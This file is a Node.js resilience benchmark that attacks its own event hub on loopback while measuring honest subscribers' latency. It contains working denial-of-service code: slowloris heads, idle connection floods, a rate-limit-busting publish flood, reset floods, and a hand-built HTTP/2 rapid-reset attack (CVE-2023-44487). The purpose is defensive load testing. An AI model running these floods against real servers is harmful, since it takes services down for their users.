// SPDX-License-Identifier: MIT
//
// hostile - do honest subscribers notice an attack? Quiet and hostile phases alternate in one run against one hub. In each
// the load generator broadcasts to honest readers at a fixed rate and measures how long events take. In the hostile ones a
// process of its own attacks from other addresses of the loopback network, with all of this at once:
//
//   200 heads of requests that grow by a byte a second; 1,000 connections that say nothing; 1,000 publishes a second over
//   a limit of 100 for an address; 500 connections a second that are reset in the middle of a request; 500 streams a second
//   of HTTP/2 that are reset as soon as they are opened.
//
// What the hub cuts off is opened again. The rates are fixed, since attacker, readers and generator share one processor:
// a flood without measure would measure how well that one is shared.
"use strict";
const { fork, spawnSync } = require("node:child_process");
const http = require("node:http");
const net = require("node:net");
const os = require("node:os");

const SLOW = 200, SILENT = 1000, PUBLISHES = 1000, RESETS = 500, STREAMS = 500, TICK = 20;
// Short enough that slow heads and silent connections are cut, and opened anew, several times in a phase of attack.
const HUB = ["--publish-rate-per-address", "100", "--head-timeout", "2s"];

// ---- the attacker

const done = { slowHeads: 0, silent: 0, published: 0, refused: 0, resets: 0, streams: 0, sessions: 0, failed: 0 };

/** Keeps one connection open, opening it anew when the hub has cut it. */
function hold(port, localAddress, begin, count) {
  const socket = net.connect({ port, host: "127.0.0.1", localAddress }, () => {
    done[count]++;
    begin(socket);
  });
  socket.on("error", () => {}).on("data", () => {});
  socket.on("close", () => setTimeout(hold, 50, port, localAddress, begin, count));
}

function growSlowly(socket) {
  socket.write("GET /api/sse/subscribe/x HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");
  const timer = setInterval(() => socket.write("a"), 1000);
  socket.on("close", () => clearInterval(timer));
}

function publish(port, agent) {
  const body = '{"clientId":"nobody","event":"flood","payload":1}';
  const request = http.request({ port, host: "127.0.0.1", localAddress: "127.0.0.4", path: "/api/sse/notify", method: "POST", agent,
    headers: { "Content-Type": "application/json", "Content-Length": body.length } }, (response) => {
    done[response.statusCode === 429 ? "refused" : "published"]++;
    response.resume();
  });
  request.on("error", () => done.failed++);
  request.end(body);
}

function reset(port) {
  const socket = net.connect({ port, host: "127.0.0.1", localAddress: "127.0.0.5" }, () => {
    socket.write("GET /api/sse/subscribe/x HTTP/1.1\r\nHo", () => socket.resetAndDestroy());
    done.resets++;
  });
  socket.on("error", () => {});
}

const frame = (type, flags, id, payload) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
};
const literal = (index, text) => Buffer.concat([Buffer.from([index, text.length]), Buffer.from(text)]);
const REQUEST = Buffer.concat([Buffer.from([0x82, 0x86]), literal(0x04, "/api/sse/subscribe/x"), literal(0x01, "localhost")]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** Opens streams and resets each in the same packet, before it can be answered (CVE-2023-44487), in a session of HTTP/2 that is
 * opened anew when the hub has ended it. Written by hand, as a client of Node's waits between the two. */
function resetter(port) {
  let socket = null, id = 1;
  const open = () => {
    [socket, id] = [net.connect({ port, host: "127.0.0.1", localAddress: "127.0.0.6" }), 1];
    done.sessions++;
    socket.on("error", () => {}).on("data", () => {}).on("end", () => socket.end()).on("close", () => (socket = null));
    socket.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.alloc(0))]));
  };
  return () => {
    if (!socket) open();
    if (!socket.writable) return;
    socket.write(Buffer.concat([frame(1, 5, id, REQUEST), frame(3, 0, id, CANCEL)]));
    id += 2;
    done.streams++;
  };
}

/** Calls what a fixed number of times a second, as far as the machine lets it. */
function atRate(rate, what) {
  let owed = 0, last = Date.now();
  setInterval(() => {
    const now = Date.now();
    owed = Math.min(owed + (rate * (now - last)) / 1000, rate / 4);
    for (last = now; owed >= 1; owed--) what();
  }, TICK);
}

function attack(port) {
  for (let i = 0; i < SLOW; i++) hold(port, "127.0.0.2", growSlowly, "slowHeads");
  for (let i = 0; i < SILENT; i++) hold(port, "127.0.0.3", () => {}, "silent");
  const agent = new http.Agent({ keepAlive: true, maxSockets: 16 });
  atRate(PUBLISHES, () => publish(port, agent));
  atRate(RESETS, () => reset(port));
  atRate(STREAMS, resetter(port));
  const begin = Date.now();
  process.on("message", () => process.send({ seconds: (Date.now() - begin) / 1000, ...done }, () => process.exit(0)));
}

// ---- the measurement

/** Throws unless the attack was what it says: at its rates, refused by the limit, and cut by the deadline. */
function checkAttack(attack) {
  const { seconds, slowHeads, silent, published, refused, resets, streams, sessions } = attack;
  const due = (rate) => 0.8 * rate * seconds;
  const weak = [resets < due(RESETS) && "resets", streams < due(STREAMS) && "streams", sessions < 2 && "sessions ended", published + refused < due(PUBLISHES) && "publishes", refused === 0 && "refusals",
    slowHeads <= SLOW && "slow heads cut", silent <= SILENT && "silent connections cut"].filter(Boolean);
  if (weak.length > 0) throw new Error(`the attack was too weak in: ${weak.join(", ")}: ${JSON.stringify(attack)}`);
}

const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

async function underAttack(port, measure, children) {
  const attacker = fork(__filename, ["attack", String(port)]);
  children.add(attacker);
  // A stranger brings processors of his own. Here he has what the generator leaves of its one.
  spawnSync("taskset", ["-a", "-p", "-c", String(os.cpus().length - 1), String(attacker.pid)]);
  os.setPriority(attacker.pid, 19);
  await pause(2000); // until all of it is there
  const run = await measure();
  const counts = new Promise((resolve) => attacker.once("message", resolve));
  attacker.send("enough");
  run.attack = await counts;
  await new Promise((resolve) => (attacker.exitCode === null ? attacker.once("exit", resolve) : resolve()));
  children.delete(attacker);
  checkAttack(run.attack);
  return run;
}

/** {quiet, hostile}: the runs of the load generator, one of each a round; those of hostile with what the attacker did. */
async function hostile({ tidings, load, stop, rounds, children }) {
  const server = await tidings(HUB);
  const measure = () => load(server, "fanout", ["--connections", "500", "--rate", "20"]);
  const runs = { quiet: [], hostile: [] };
  await measure(); // the first one warms up
  for (let i = 0; i < rounds; i++) {
    runs.quiet.push(await measure());
    runs.hostile.push(await underAttack(new URL(server.url).port, measure, children));
    await pause(1000);
  }
  await stop(server);
  return runs;
}

if (process.argv[2] === "attack") attack(Number(process.argv[3]));
else module.exports = hostile;
